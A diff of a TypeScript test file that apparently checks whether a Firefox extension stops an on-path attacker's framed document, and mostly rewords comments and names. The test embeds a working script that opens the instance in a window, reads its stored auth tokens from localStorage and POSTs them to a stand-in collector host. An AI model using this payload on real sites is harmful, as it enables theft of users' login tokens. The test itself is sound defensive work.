@@ -1,5 +1,5 @@
-// Another site shows a document of the instance in a frame. Firefox tells the extension nothing of that request, so an
-// attacker on the way answers it unseen. His document opens a window at the true address and reads its stored tokens.
+// Another site shows a document of the instance in a frame. Firefox doesn't report that request to the extension, so an
+// attacker on the path answers it unseen. The attacker's document opens a window at the true address and reads its tokens.
 import { createServer as createTls } from "node:https";
 import type { Socket } from "node:net";
 import type { IncomingMessage, ServerResponse } from "node:http";
@@ -21,12 +21,12 @@ beforeAll(async () => {
   site = await lab.instance(lab.authority, [OWN_DOMAIN]);
 });
 
-const RUNS = "his script runs";
+const RUNS = "the attacker's script runs";
 const NOTHING = "no token could be read";
-/** Opens the instance at one click, and tells the attacker what it could read there. */
+/** Opens the instance at one click, and sends the attacker what it could read there. */
 const THIEF = `
-  const tell = (what) => fetch('https://${COLLECTOR}/', { method: 'POST', mode: 'no-cors', keepalive: true, body: what });
-  void tell('${RUNS}');
+  const report = (what) => fetch('https://${COLLECTOR}/', { method: 'POST', mode: 'no-cors', keepalive: true, body: what });
+  void report("${RUNS}");
   document.onclick = () => {
     const opened = open('/');
     const began = Date.now();
@@ -35,10 +35,10 @@ const THIEF = `
       try { tokens = opened.localStorage.hassTokens; } catch { /* not at the address yet, or never */ }
       if (tokens === undefined && Date.now() - began < 3000) return;
       clearInterval(timer);
-      void tell(tokens ?? '${NOTHING}');
+      void report(tokens ?? '${NOTHING}');
     }, 50);
   };`;
-const HIS_DOCUMENTS: Readonly<Record<string, readonly [type: string, body: string]>> = {
+const ATTACKER_DOCUMENTS: Readonly<Record<string, readonly [type: string, body: string]>> = {
   html: ["text/html", `<!doctype html><body style="height: 100vh"><script>${THIEF}</script>`],
   svg: [
     "image/svg+xml",
@@ -46,20 +46,20 @@ const HIS_DOCUMENTS: Readonly<Record<string, readonly [type: string, body: strin
   ],
 };
 
-/** Answers one connection to the instance, the first after `arm`, with a document of his. */
-async function frameThief(instance: Instance, document: keyof typeof HIS_DOCUMENTS) {
+/** Answers one connection to the instance, the first after `arm`, with the attacker's document. */
+async function frameThief(instance: Instance, document: keyof typeof ATTACKER_DOCUMENTS) {
   const { key, cert } = await lab.authority.issue({ names: [instance.host] });
-  const [type = "", body = ""] = HIS_DOCUMENTS[document] ?? [];
+  const [type = "", body = ""] = ATTACKER_DOCUMENTS[document] ?? [];
   let isArmed = false;
   let served = 0;
-  const his = createTls({ key, cert }, (_, response) => {
+  const server = createTls({ key, cert }, (_, response) => {
     isArmed = false;
     served++;
     response.writeHead(200, { "Content-Type": type, Connection: "close" }).end(body);
   });
   instance.attacker = {
     onConnection: (socket: Socket, passOn) => {
-      if (isArmed) his.emit("connection", socket);
+      if (isArmed) server.emit("connection", socket);
       else passOn();
     },
   };
@@ -77,7 +77,7 @@ const FRAMES = {
   embed: (url: string) => `<embed ${SIZE} src="${url}" type="text/html">`,
 };
 
-/** The document in the frame, whoever's it is now. */
+/** The document in the frame, the instance's or the attacker's. */
 const framed = (page: Page): Frame | undefined => page.frames().find((frame) => frame !== page.mainFrame());
 const isStopped = async (page: Page): Promise<boolean> =>
   String(
@@ -89,7 +89,7 @@ const isStopped = async (page: Page): Promise<boolean> =>
 const TREE = z.object({
   contexts: z.array(z.object({ url: z.string(), children: z.array(z.object({ context: z.string() })) })),
 });
-/** A click of the mouse in the frame. A site can put the frame under whatever the user wants to click. */
+/** A click of the mouse in the frame. A site can put the frame under anything that the user wants to click. */
 async function clickFrame(): Promise<void> {
   const { contexts } = TREE.parse(await firefox.bidi.send("browsingContext.getTree", {}));
   const context = contexts.find(({ url }) => url.includes(OWN_DOMAIN))?.children[0]?.context;
@@ -101,19 +101,19 @@ async function clickFrame(): Promise<void> {
   await firefox.bidi.send("input.performActions", { context, actions: [{ type: "pointer", id: "mouse", actions }] });
 }
 
-/** What came of it: whether his document ran, and what it could read. */
-async function outcome(page: Page, toldSince: () => string): Promise<"stolen" | "nothing" | "stopped"> {
+/** The result: whether the attacker's document ran, and what it could read. */
+async function outcome(page: Page, reportedSince: () => string): Promise<"stolen" | "nothing" | "stopped"> {
   const runs = await until(
-    async () => ((await isStopped(page)) ? "stopped" : toldSince().includes(RUNS) ? "runs" : undefined),
+    async () => ((await isStopped(page)) ? "stopped" : reportedSince().includes(RUNS) ? "runs" : undefined),
     (what) => what !== undefined,
   );
   await clickFrame();
   if (runs === "stopped") {
     await reachesCollector(firefox, lab);
-    return toldSince().includes(RUNS) ? "nothing" : "stopped";
+    return reportedSince().includes(RUNS) ? "nothing" : "stopped";
   }
-  await until(toldSince, (told) => told.includes(SECRET) || told.includes(NOTHING));
-  return toldSince().includes(SECRET) ? "stolen" : "nothing";
+  await until(reportedSince, (reported) => reported.includes(SECRET) || reported.includes(NOTHING));
+  return reportedSince().includes(SECRET) ? "stolen" : "nothing";
 }
 
 const ROWS: [frame: keyof typeof FRAMES, document: string, isGuarded: boolean, comes: string][] = [
@@ -124,7 +124,7 @@ const ROWS: [frame: keyof typeof FRAMES, document: string, isGuarded: boolean, c
   ["iframe", "svg", true, "stopped"],
 ];
 it.each(ROWS)(
-  "in an %s of another site, as %s (guarded: %s), his document is %s",
+  "in an %s of another site, as %s (guarded: %s), the result of the attacker's document: %s",
   async (frame, type, guarded, comes) => {
     const { instance, page } = await openInstance(lab, firefox, guarded);
     await page.close();
@@ -144,7 +144,7 @@ it.each(ROWS)(
   },
 );
 
-it("stops his document in another site's page that the instance itself shows, and leaves the instance's own frames alone", async () => {
+it("stops the attacker's document in another site's page that the instance itself shows, and no frame of the instance's own", async () => {
   const { instance, page } = await openInstance(lab, firefox, true);
   const thief = await frameThief(instance, "html");
   instance.respond = (request, response) => {
